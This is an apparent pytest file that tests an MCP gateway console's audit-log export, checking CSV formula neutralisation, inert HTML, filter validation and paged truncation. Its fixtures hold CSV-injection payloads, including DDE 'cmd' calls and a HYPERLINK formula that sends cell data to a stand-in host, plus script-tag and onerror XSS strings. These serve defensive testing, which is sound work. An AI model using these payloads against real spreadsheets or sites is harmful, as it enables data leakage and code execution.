"""Exporting the audit search's filter from the console: CSV and JSON lines made by the SIEM export's
encoders, streamed and bounded. Attack cases: formula payloads in tool names and arguments come out
neutralised in the CSV, and HTML in a record is never served as a page."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from console_support import ConsoleGateway, close_clients, gateway_for_module, login

from mcp_gateway.audit.search import AuditSearch
from mcp_gateway.audit.sqlite import SQLiteAuditSink
from mcp_gateway.connectors.siem.formats import CSV_COLUMNS
from mcp_gateway.console.audit_pages import search
from mcp_gateway.console.export import export_body
from mcp_gateway.types import AuditEvent

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def console_gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConsoleGateway]:
    yield from gateway_for_module(tmp_path_factory)


@pytest.fixture(autouse=True)
def _closed_clients() -> Iterator[None]:
    yield from close_clients()


def _exports(gw: ConsoleGateway) -> list[object]:
    return [r for r in gw.audit() if r.kind == "audit_export"]


@pytest.mark.e2e
def test_the_csv_export_neutralises_formula_cells_from_tool_names_and_arguments(
    console_gateway: ConsoleGateway,
) -> None:
    gw = console_gateway
    for payload in FORMULAS:
        assert gw.call(payload, {"text": payload})["is_error"]  # not granted: denied, audited with its name
        assert not gw.call("note.echo", {"text": payload})["is_error"]
    client = login(gw, "victor")
    answer = client.get("/audit/export", params={"format": "csv", "agent": "agent-a"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    body = rows[1:]
    assert body and all(len(row) == len(CSV_COLUMNS) for row in body)
    # No cell a spreadsheet would run: every one starting with a formula character got a `'`.
    assert [cell for row in body for cell in row if cell.startswith(FORMULA_START)] == []
    tools = {row[CSV_COLUMNS.index("tool")] for row in body}
    assert {"'" + payload for payload in FORMULAS} <= tools
    args = [json.loads(row[CSV_COLUMNS.index("args")]) for row in body if row[CSV_COLUMNS.index("args")]]
    assert {a.get("text") for a in args} >= set(FORMULAS)  # inside a JSON cell, which starts with `{`
    # Every cell quoted: a CR or tab an agent chose cannot end a row or shift a column.
    assert all(line.startswith('"') for line in answer.text.split("\r\n") if line)
    export = _exports(gw)[-1]
    assert export.detail["by"] == "victor" and export.detail["format"] == "csv"  # type: ignore[attr-defined]
    assert export.detail["filters"] == {"agent": "agent-a"}  # type: ignore[attr-defined]


@pytest.mark.e2e
def test_the_json_lines_export_holds_the_filter_newest_first_and_html_stays_inert(
    console_gateway: ConsoleGateway,
) -> None:
    gw = console_gateway
    hostile = '<script>window.__pwned = 1</script><img src=x onerror="alert(1)">'
    gw.call("note.echo", {"text": hostile})
    client = login(gw, "victor")
    answer = client.get("/audit/export", params={"format": "jsonl", "tool": "note.e*"})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert "html" not in answer.headers["content-type"]
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    lines = [json.loads(line) for line in answer.text.splitlines()]
    expected = [r.seq for r in reversed(gw.audit()) if r.tool == "note.echo"]
    assert [line["seq"] for line in lines] == expected
    assert any(line["args"].get("text") == hostile for line in lines)


@pytest.mark.e2e
def test_an_export_with_a_bad_format_or_filter_is_refused_and_nothing_is_exported(
    console_gateway: ConsoleGateway,
) -> None:
    gw = console_gateway
    client = login(gw, "victor")
    before = len(_exports(gw))
    for params in (
        {"format": "xls"},
        {"format": "csv", "since": "yesterday"},
        {"format": "csv", "tool": "["},
    ):
        answer = client.get("/audit/export", params=params)
        assert answer.status_code == 400, params
    assert len(_exports(gw)) == before


@pytest.mark.e2e
def test_the_audit_page_offers_the_export_of_its_filter_escaped(console_gateway: ConsoleGateway) -> None:
    client = login(console_gateway, "victor")
    page = client.get("/audit", params={"text": '"><script>window.__pwned=1</script>'}).text
    link = page.split('id="export-csv" href="', 1)[1].split('"', 1)[0]
    assert link.startswith("/console/audit/export?text=%22%3E%3Cscript%3E") and link.endswith("format=csv")
    assert "<script>window.__pwned" not in page


@pytest.mark.anyio
async def test_an_export_reads_page_after_page_and_says_in_its_last_line_where_it_stopped(
    tmp_path: Path,
) -> None:
    with SQLiteAuditSink(tmp_path / "audit.db") as sink:
        sink.append([AuditEvent(kind="intent", tool=f"t.{i % 3}", args={"i": i}) for i in range(1200)])
        query = AuditSearch(limit=500)
        first = search(sink, query)
        lines = [json.loads(line) async for line in export_body(sink, query, first, "jsonl", limit=1000)]
        assert [line["seq"] for line in lines[:-1]] == list(range(1200, 200, -1))
        # Cut inside a page: not a record, and it names where to go on.
        assert lines[-1] == {
            "export_truncated": {
                "records": 1000,
                "continue_before": 201,
                "message": "this export stopped at its limit of 1,000 records; older records may match:"
                " export again with before=201",
            }
        }
        text = "".join([line async for line in export_body(sink, query, first, "csv", limit=1000)])
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 1002 and rows[1][0] == "1200"
        assert CSV_COLUMNS[0] not in [row[0] for row in rows[1:]]  # one header, at the top
        last = dict(zip(CSV_COLUMNS, rows[-1], strict=True))
        assert last["kind"] == "export_truncated" and last["seq"] == ""
        assert json.loads(last["detail"])["continue_before"] == 201
        # Cut at a page's end: the next page's cursor.
        lines = [json.loads(line) async for line in export_body(sink, query, first, "jsonl", limit=500)]
        assert len(lines) == 501 and lines[-1]["export_truncated"]["continue_before"] == 701
        # Going on from there ends the log: every record once, and no truncation line.
        rest_query = AuditSearch(limit=500, before_seq=201)
        rest = [
            json.loads(line)
            async for line in export_body(sink, rest_query, search(sink, rest_query), "jsonl", limit=1000)
        ]
        assert [line["seq"] for line in rest] == list(range(200, 0, -1))
        # Exactly everything within the limit: complete, so no truncation line either.
        whole = [json.loads(line) async for line in export_body(sink, query, first, "jsonl", limit=1200)]
        assert [line["seq"] for line in whole] == list(range(1200, 0, -1))


@pytest.mark.e2e
def test_an_export_goes_on_before_a_record_number_and_the_audit_record_says_so(
    console_gateway: ConsoleGateway,
) -> None:
    gw = console_gateway
    for n in range(3):
        gw.call("note.echo", {"text": f"before-{n}"})
    seqs = [r.seq for r in gw.audit() if r.tool == "note.echo"]
    cut = seqs[len(seqs) // 2]
    client = login(gw, "victor")
    answer = client.get("/audit/export", params={"format": "jsonl", "tool": "note.echo", "before": str(cut)})
    assert answer.status_code == 200, answer.text
    got = [json.loads(line)["seq"] for line in answer.text.splitlines()]
    assert got == sorted((s for s in seqs if s < cut), reverse=True) and got
    assert _exports(gw)[-1].detail["filters"] == {"tool": "note.echo", "before": str(cut)}  # type: ignore[attr-defined]
    assert client.get("/audit/export", params={"format": "csv", "before": "-1"}).status_code == 400
